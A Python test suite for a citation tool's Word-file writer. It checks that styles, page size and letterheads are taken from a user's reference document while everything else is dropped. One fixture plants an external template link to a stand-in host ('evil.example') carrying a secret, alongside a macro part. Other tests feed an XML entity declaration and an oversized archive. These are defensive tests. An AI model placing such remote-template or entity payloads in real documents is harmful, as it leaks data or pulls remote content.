"""Word files with the styles, page and header of a user's own document, and nothing else of it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from annotator.citation.build import build
from annotator.citation.document import Bibliography
from annotator.citation.engine import Engines
from annotator.citation.outline import Paragraph, Piece, Role
from annotator.citation.richtext import Run
from annotator.citation.styles import OSCOLA
from annotator.citation.writers import docx, wordml
from annotator.citation.writers.wordml import R, W
from annotator.domain.errors import UserError
from citation.orlen import INPUT

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


@pytest.fixture(scope="module")
def bibliography(engines: Engines) -> Bibliography:
    return build(INPUT, engines.get(OSCOLA))


def reference(path: Path, changes: Mapping[str, str | bytes], without: tuple[str, ...] = ()) -> Path:
    """Our reference document with other parts, as a user's own."""
    base = zipfile.ZipFile(io.BytesIO(docx.reference_document()))
    parts = {name: base.read(name) for name in base.namelist() if name not in without}
    parts |= {name: data.encode() if isinstance(data, str) else data for name, data in changes.items()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def written(bibliography: Bibliography, path: Path) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(docx.write(bibliography, reference=path)))


def styles_of(archive: zipfile.ZipFile) -> dict[str, ET.Element]:
    """Styles by the names that Word shows."""
    found = {}
    for style in ET.fromstring(archive.read("word/styles.xml")).iter(f"{{{W}}}style"):
        name = style.find(f"{{{W}}}name")
        assert name is not None
        found[name.get(f"{{{W}}}val", "").casefold()] = style
    return found


def used(archive: zipfile.ZipFile) -> list[str]:
    document = ET.fromstring(archive.read("word/document.xml"))
    return [one.get(f"{{{W}}}val", "") for one in document.iter(f"{{{W}}}pStyle")]


def test_styles_are_found_by_name_and_missing_ones_are_put_in(
    bibliography: Bibliography, tmp_path: Path
) -> None:
    own = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/>'
        '</w:style><w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="heading 1"/></w:style>'
        '<w:style w:type="character" w:styleId="Quote"><w:name w:val="Something else"/></w:style></w:styles>'
    )
    archive = written(bibliography, reference(tmp_path / "mine.docx", {"word/styles.xml": own}))
    styles = styles_of(archive)
    assert used(archive).count("berschrift1") == 2
    entry = styles["bibliography"]
    assert entry.find(f"{{{W}}}pPr/{{{W}}}ind").get(f"{{{W}}}hanging") == "720"
    assert entry.find(f"{{{W}}}basedOn").get(f"{{{W}}}val") == "Standard"
    ids = [style.get(f"{{{W}}}styleId") for style in styles.values()]
    assert len(ids) == len(set(ids))
    assert styles["quote"].get(f"{{{W}}}styleId") in used(archive)
    assert styles["quote"].get(f"{{{W}}}styleId") != "Quote"
    assert set(used(archive)) <= set(ids)
    for style in styles.values():
        for link in ("basedOn", "next", "link"):
            found = style.find(f"{{{W}}}{link}")
            assert found is None or found.get(f"{{{W}}}val") in ids
    assert [one.get(f"{{{W}}}default") for one in styles.values()].count("1") == 1


def test_nothing_of_the_lenders_own_is_handed_on(bibliography: Bibliography, tmp_path: Path) -> None:
    secret = "a secret of the firm"
    relations = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(
            (
                ("styles", "styles.xml"),
                ("settings", "settings.xml"),
                ("comments", "comments.xml"),
                ("footnotes", "footnotes.xml"),
                ("image", "media/scan.png"),
                ("vbaProject", "vbaProject.bin"),
            ),
            20,
        )
    )
    path = reference(
        tmp_path / "mine.docx",
        {
            "word/document.xml": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{secret}</w:t></w:r></w:p></w:body></w:document>',
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>',
            "word/comments.xml": f'<w:comments xmlns:w="{W}">{secret}</w:comments>',
            "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}"><w:footnote w:type="separator" w:id="0"/>'
            f'<w:footnote w:id="1"><w:p><w:r><w:t>{secret}</w:t></w:r></w:p></w:footnote></w:footnotes>',
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:zoom w:percent="90"/>'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1"'
            f' Type="{OFFICE}/attachedTemplate" Target="https://evil.example/{secret}" TargetMode="External"/></Relationships>',
            "word/media/scan.png": secret,
            "word/vbaProject.bin": secret,
            "docProps/core.xml": f"<x>{secret}</x>",
            "customXml/item1.xml": f"<x>{secret}</x>",
        },
    )
    archive = written(bibliography, path)
    for name in archive.namelist():
        data = archive.read(name).decode()
        assert secret not in data
        assert "evil.example" not in data
    assert "word/vbaProject.bin" not in archive.namelist()
    assert b'w:percent="90"' in archive.read("word/settings.xml")
    assert b"separator" in archive.read("word/footnotes.xml")
    types = archive.read("[Content_Types].xml").decode()
    assert "comments" not in types


def test_a_letterhead_keeps_its_picture_and_its_page(bibliography: Bibliography, tmp_path: Path) -> None:
    base = zipfile.ZipFile(io.BytesIO(docx.reference_document()))
    path = reference(
        tmp_path / "mine.docx",
        {
            "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p/><w:sectPr><w:headerReference'
            ' w:type="default" r:id="rId7"/><w:pgSz w:w="12240" w:h="15840"/><w:pgMar w:top="1440" w:right="1440"'
            ' w:bottom="1440" w:left="1440" w:header="720" w:footer="720" w:gutter="0"/></w:sectPr></w:body></w:document>',
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{OFFICE}/styles"'
            f' Target="styles.xml"/><Relationship Id="rId7" Type="{OFFICE}/header" Target="/word/header1.xml"/></Relationships>',
            "word/header1.xml": f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p><w:r><w:drawing r:embed="rId3"/></w:r></w:p></w:hdr>',
            "word/_rels/header1.xml.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId3" Type="{OFFICE}/image"'
            ' Target="media/logo.png"/></Relationships>',
            "word/media/logo.png": b"\x89PNG",
            "[Content_Types].xml": base.read("[Content_Types].xml").replace(
                b"</Types>",
                f'<Override PartName="/word/header1.xml" ContentType="{WORD}.header+xml"/></Types>'.encode(),
            ),
        },
    )
    archive = written(bibliography, path)
    assert {"word/header1.xml", "word/_rels/header1.xml.rels", "word/media/logo.png"} <= set(
        archive.namelist()
    )
    assert "/word/header1.xml" in archive.read("[Content_Types].xml").decode()
    document = ET.fromstring(archive.read("word/document.xml"))
    assert document.find(f".//{{{W}}}pgSz").get(f"{{{W}}}w") == "12240"
    relations = {
        one.get("Id"): one.get("Target")
        for one in ET.fromstring(archive.read("word/_rels/document.xml.rels"))
    }
    asked = {value for one in document.iter() for name, value in one.items() if name == f"{{{R}}}id"}
    assert asked <= set(relations)
    assert relations["rId7"] == "/word/header1.xml"
    assert "https://example.org/times" in relations.values()


def test_every_part_has_a_type_and_the_words_their_language(
    bibliography: Bibliography, tmp_path: Path
) -> None:
    archive = zipfile.ZipFile(io.BytesIO(docx.write(bibliography)))
    types = ET.fromstring(archive.read("[Content_Types].xml"))
    overrides = {one.get("PartName", "").lstrip("/") for one in types if one.get("PartName")}
    defaults = {one.get("Extension") for one in types if one.get("Extension")}
    names = set(archive.namelist()) - {"[Content_Types].xml"}
    assert all(name in overrides or name.rpartition(".")[2] in defaults for name in names)
    assert overrides <= names
    lang = ET.fromstring(archive.read("word/styles.xml")).find(f".//{{{W}}}rPrDefault//{{{W}}}lang")
    assert lang.get(f"{{{W}}}val") == bibliography.locale == "en-GB"
    assert bibliography.title in archive.read("docProps/core.xml").decode()
    assert docx.write(bibliography) == docx.write(bibliography)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/document.xml", "<document xmlns='http://purl.oclc.org/ooxml/wordprocessingml/main'/>"),
        ("word/styles.xml", "<broken"),
        ("word/styles.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        ("word/_rels/document.xml.rels", "<broken"),
    ],
)
def test_a_lender_that_is_damaged_is_refused(
    bibliography: Bibliography, tmp_path: Path, part: str, content: str
) -> None:
    path = reference(tmp_path / "mine.docx", {part: content})
    with pytest.raises(UserError, match="no Word document") as refused:
        docx.write(bibliography, reference=path)
    assert refused.value.file == str(path)


def test_a_lender_that_unfolds_to_too_much_is_refused(
    bibliography: Bibliography, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("annotator.citation.writers.wordfile._MOST_BYTES", 4 << 20)
    path = reference(tmp_path / "mine.docx", {"word/media/zeros.bin": bytes(5 << 20)})
    with pytest.raises(UserError, match="no Word document"):
        docx.write(bibliography, reference=path)


def test_an_address_is_one_that_word_can_read() -> None:
    assert wordml.target("https://a.example/ü [x] %20?q=1&r=<2>#f") == (
        "https://a.example/%C3%BC%20%5Bx%5D%20%20?q=1&r=%3C2%3E#f"
    )


def test_lines_tabs_and_hebrew_are_written_as_word_has_them() -> None:
    body = wordml.Body(lambda _kind, name: name.replace(" ", ""), width=9000, first_link=1)
    xml = body._paragraph(Paragraph(Role.NOTE, (Piece(Run("a\nb\tc & <d>")),)))
    assert "<w:br/>" in xml
    assert "<w:tab/>" in xml
    assert "c &amp; &lt;d&gt;" in xml
    hebrew = body._paragraph(
        Paragraph(Role.QUOTE, (Piece(Run("שלום", bold=True, link="https://a.example/")),), "", "", True)
    )
    assert hebrew == (
        '<w:p><w:pPr><w:pStyle w:val="Quote"/><w:bidi/></w:pPr><w:hyperlink r:id="rId1"><w:r><w:rPr>'
        '<w:rStyle w:val="Hyperlink"/><w:b/><w:bCs/><w:rtl/><w:lang w:bidi="he-IL"/></w:rPr>'
        '<w:t xml:space="preserve">שלום</w:t></w:r></w:hyperlink></w:p>'
    )


def test_a_lone_percent_sign_in_an_address_does_not_damage_the_file() -> None:
    assert (
        wordml.target("https://a.example/100%?x=%zz&y=%C3%A9%")
        == "https://a.example/100%25?x=%25zz&y=%C3%A9%25"
    )
